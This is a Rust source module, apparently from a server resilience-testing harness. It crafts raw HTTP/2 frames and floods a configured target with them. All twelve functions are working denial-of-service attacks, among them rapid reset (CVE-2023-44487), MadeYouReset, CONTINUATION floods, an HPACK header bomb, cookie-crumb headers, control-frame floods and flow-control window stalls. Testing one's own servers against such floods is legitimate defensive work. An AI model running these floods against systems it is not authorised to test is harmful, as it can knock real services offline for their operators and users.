//! Floods of HTTP/2, frame by frame.

use std::{cell::Cell, rc::Rc};

use tokio::{io::AsyncWriteExt, net::TcpStream};

use super::{Attack, Honest, Strike, Striker};

#[rustfmt::skip]
pub(super) fn attacks() -> Vec<Attack> {
    let attack = Attack::beside(Honest::Http2);
    vec![
        attack("rapid reset", "stream", 20, 10_000.0, rapid_reset),
        attack("MadeYouReset", "stream", 20, 10_000.0, made_you_reset),
        attack("CONTINUATION", "frame", 20, 20_000.0, continuation),
        attack("PING", "frame", 20, 50_000.0, ping),
        attack("SETTINGS", "frame", 20, 50_000.0, settings),
        attack("empty DATA", "frame", 20, 50_000.0, empty_data),
        attack("PRIORITY", "frame", 20, 50_000.0, priority),
        attack("WINDOW_UPDATE of one", "frame", 20, 50_000.0, window_updates),
        attack("header bomb", "head", 20, 1_000.0, header_bomb),
        attack("cookie crumbs", "head", 20, 1_000.0, crumbs),
        Attack { requests: 100, ..attack("window stall, 100 streams each", "stream", 20, 20_000.0, window_stall) },
        attack("window stall", "stream", 2_000, 20_000.0, window_stall_of_one),
    ]
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The fields of a request for `/` of `a.test`: GET, or POST.
fn fields(post: bool) -> Vec<u8> {
    let mut fields = vec![if post { 0x83 } else { 0x82 }, 0x86, 0x84, 0x01, 6];
    fields.extend(b"a.test");
    fields
}

/// What a client says first.
fn hello(settings: &[u8]) -> Vec<u8> {
    [PREFACE.to_vec(), frame(SETTINGS, 0, 0, settings)].concat()
}

/// The numbers of one connection's streams.
fn streams() -> impl FnMut() -> u32 {
    let next = Cell::new(1);
    move || next.replace(next.get() + 2)
}

fn flood(
    striker: Rc<Striker>,
    first: Vec<u8>,
    count: u64,
    more: impl FnMut() -> Vec<u8> + 'static,
) -> Strike {
    Box::pin(async move {
        let stream = TcpStream::connect(striker.targets.http).await?;
        let first = [hello(&[]), first].concat();
        striker.flood(stream, &first, count, more).await
    })
}

/// CVE-2023-44487.
fn rapid_reset(striker: Rc<Striker>) -> Strike {
    let mut next = streams();
    flood(striker, vec![], 10, move || {
        let stream = next();
        let headers = frame(HEADERS, END_STREAM | END_HEADERS, stream, &fields(false));
        [headers, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
    })
}

/// CVE-2025-8671: what makes the server reset the stream.
fn made_you_reset(striker: Rc<Striker>) -> Strike {
    let mut next = streams();
    flood(striker, vec![], 10, move || {
        let stream = next();
        let headers = frame(HEADERS, END_HEADERS, stream, &fields(true));
        [headers, frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes())].concat()
    })
}

/// CVE-2024-24549 and its kin: a head that never ends.
fn continuation(striker: Rc<Striker>) -> Strike {
    let first = frame(HEADERS, END_STREAM, 1, &fields(false));
    // A literal field that is not kept: `x: ` and 100 bytes.
    let mut field = vec![0, 1, b'x', 100];
    field.extend([b'v'; 100]);
    flood(striker, first, 20, move || frame(CONTINUATION, 0, 1, &field))
}

fn ping(striker: Rc<Striker>) -> Strike {
    flood(striker, vec![], 100, || frame(PING, 0, 0, &[7; 8]))
}

fn settings(striker: Rc<Striker>) -> Strike {
    // The header table's size, which is the most work.
    let mut large = false;
    flood(striker, vec![], 100, move || {
        large = !large;
        frame(SETTINGS, 0, 0, &[0, 1, 0, 0, if large { 16 } else { 0 }, 0])
    })
}

fn empty_data(striker: Rc<Striker>) -> Strike {
    let first = frame(HEADERS, END_HEADERS, 1, &fields(true));
    flood(striker, first, 100, || frame(DATA, 0, 1, &[]))
}

fn priority(striker: Rc<Striker>) -> Strike {
    let mut next = streams();
    flood(striker, vec![], 100, move || frame(PRIORITY, 0, next(), &[0, 0, 0, 0, 16]))
}

fn window_updates(striker: Rc<Striker>) -> Strike {
    let first = frame(HEADERS, END_HEADERS, 1, &fields(true));
    flood(striker, first, 100, || frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes()))
}

/// A field of 4,000 bytes in the table, then as many references to it as a frame has room for: each is a byte.
fn header_bomb(striker: Rc<Striker>) -> Strike {
    let mut field = vec![0x40, 1, b'x', 0x7f];
    // 4,000 = 127 + 3,873 = 127 + 33 + 30 x 128.
    field.extend([0x80 | 33, 30]);
    field.extend([b'v'; 4000]);
    let first = frame(HEADERS, END_STREAM | END_HEADERS, 1, &[fields(false), field].concat());
    let mut next = streams();
    next();
    flood(striker, first, 1, move || {
        let block = [fields(false), vec![0xbe; 16_000]].concat();
        frame(HEADERS, END_STREAM | END_HEADERS, next(), &block)
    })
}

/// Crumbs of a cookie, which count before they are joined.
fn crumbs(striker: Rc<Striker>) -> Strike {
    let mut next = streams();
    flood(striker, vec![], 1, move || {
        // `cookie` of the static table, with a value of one byte.
        let block = [fields(false), [0x0f, 17, 1, b'c'].repeat(4000)].concat();
        frame(HEADERS, END_STREAM | END_HEADERS, next(), &block)
    })
}

/// Asks for what is large and opens no window.
fn stall(striker: Rc<Striker>, count: u64) -> Strike {
    Box::pin(async move {
        let mut stream = TcpStream::connect(striker.targets.http).await?;
        // SETTINGS_INITIAL_WINDOW_SIZE is zero.
        let mut all = hello(&[0, 4, 0, 0, 0, 0]);
        let mut next = streams();
        for _ in 0..count {
            let mut block = vec![0x82, 0x86, 0x04, 6];
            block.extend(b"/large");
            block.extend([0x01, 6]);
            block.extend(b"a.test");
            all.extend(frame(HEADERS, END_STREAM | END_HEADERS, next(), &block));
        }
        striker.pace(count).await;
        stream.write_all(&all).await?;
        tokio::time::sleep_until(striker.ends.into()).await;
        Ok(())
    })
}

fn window_stall(striker: Rc<Striker>) -> Strike {
    stall(striker, 100)
}

fn window_stall_of_one(striker: Rc<Striker>) -> Strike {
    stall(striker, 1)
}
